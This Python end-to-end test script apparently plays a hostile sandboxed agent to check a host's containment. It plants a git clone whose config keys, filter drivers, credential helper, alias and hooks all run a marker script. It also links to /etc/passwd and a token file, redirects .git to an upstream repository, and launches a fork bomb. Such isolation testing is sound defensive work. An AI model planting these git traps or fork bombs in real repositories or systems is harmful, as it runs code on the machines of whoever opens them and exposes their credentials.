"""From inside: a clone that runs things for whoever opens it; a clone without its .git; a fork bomb."""

from __future__ import annotations

import errno
import json
import os
import shutil
import sys
import time
from pathlib import Path

from tests.e2e.hostile_kit import git, sh, tell

GIVEN = json.loads(sys.argv[1])
"""``mark``: a directory of the host; ``objects``: the user's repository; ``secret``: a commit that only it has."""
HOOKS = "applypatch-msg pre-commit post-commit pre-push post-checkout post-merge pre-auto-gc post-index-change update"
HOOKS += " reference-transaction pre-receive post-update proc-receive push-to-checkout post-rewrite"
SETTINGS = {
    "core.fsmonitor": "{}",
    "core.sshCommand": "{}",
    "core.pager": "{}",
    "core.editor": "{}",
    "core.hooksPath": "/workspace/.git/evil-hooks",
    "core.attributesFile": "/workspace/.git/evil-attributes",
    "core.alternateRefsCommand": "{}",
    "core.gitProxy": "{}",
    "diff.external": "{}",
    "diff.evil.textconv": "{}",
    "filter.evil.clean": "{} clean; cat",
    "filter.evil.smudge": "{}; cat",
    "filter.evil.process": "{}",
    "filter.evil.required": "true",
    "merge.evil.driver": "{}",
    "gpg.program": "{}",
    "commit.gpgSign": "false",
    "credential.helper": "!{}",
    "sequence.editor": "{}",
    "uploadpack.packObjectsHook": "{}",
    "remote.origin.uploadpack": "{}",
    "remote.origin.receivepack": "{}",
    "include.path": "/workspace/.git/evil-config",
    "alias.status": "!{}",
}


def hostile_clone() -> None:
    """Everything that git runs by configuration, attributes and hooks says who ran it, and where."""
    evil = Path(".git/evil")
    evil.write_text(
        "#!/bin/sh\n"
        f'mkdir -p {GIVEN["mark"]} && echo "$0 $* by $(id -u) on $(hostname)" >> {GIVEN["mark"]}/PWNED\n'
        '[ -n "$TEAM_RESCUE_MAX" ] && echo "$0 $*" >> /workspace/RAN_IN_RESCUE\n'
        "echo ran >> /tmp/ran-here\n"
        'case "$1" in clean) cat;; esac\n'
    )
    evil.chmod(0o755)
    for hooks in (Path(".git/hooks"), Path(".git/evil-hooks")):
        hooks.mkdir(exist_ok=True)
        for name in HOOKS.split():
            shutil.copy(evil, hooks / name)
    for name, value in SETTINGS.items():
        git("config", name, value.format("/workspace/.git/evil"))
    Path(".git/evil-attributes").write_text("* filter=evil diff=evil merge=evil\n")
    Path(".git/info").mkdir(exist_ok=True)
    shutil.copy(".git/evil-attributes", ".git/info/attributes")
    with Path(".git/objects/info/alternates").open("a") as file:
        file.write(f"{GIVEN['objects']}\n/etc\n")
    Path("README.md").write_text("changed, and worth saving\n")
    Path("notes.txt").write_text("untracked, and worth saving\n")
    Path("passwd").symlink_to("/etc/passwd")
    Path("token").symlink_to("/run/team/token")
    nested = Path("nested/.git")
    nested.mkdir(parents=True)
    shutil.copy(".git/config", nested / "config")
    (nested / "HEAD").write_text("ref: refs/heads/main\n")
    sh("git", "--no-pager", "diff")
    code, _ = sh("git", "add", "notes.txt")
    tell("ran_here", Path("/tmp/ran-here").exists())
    tell("add", code)
    Path("/workspace/.git/refs/heads/secret").write_text(GIVEN["secret"] + "\n")
    Path("/workspace/.git/refs/heads/up").symlink_to("/upstream/refs/heads/main")


def clone_elsewhere() -> None:
    """The clone's ``.git`` leads to upstream, its objects to the user's repository."""
    Path("kept.txt").write_text("worth saving too\n")
    shutil.rmtree(".git")
    Path(".git").write_text("gitdir: /upstream\n")
    tell("gitfile", sh("git", "log", "-1", "--format=%s")[1])


def fork_bomb() -> None:
    """As many processes as there may be, all of which stay."""
    count, error = 0, ""
    while not error:
        try:
            pid = os.fork()
        except OSError as e:
            error = errno.errorcode[e.errno or 0]
            break
        if pid == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)
        count += 1
    tell("forks", [count, error])


if __name__ == "__main__":
    {"agent-01": hostile_clone, "agent-02": clone_elsewhere, "agent-03": fork_bomb}[os.environ["TEAM_AGENT"]]()
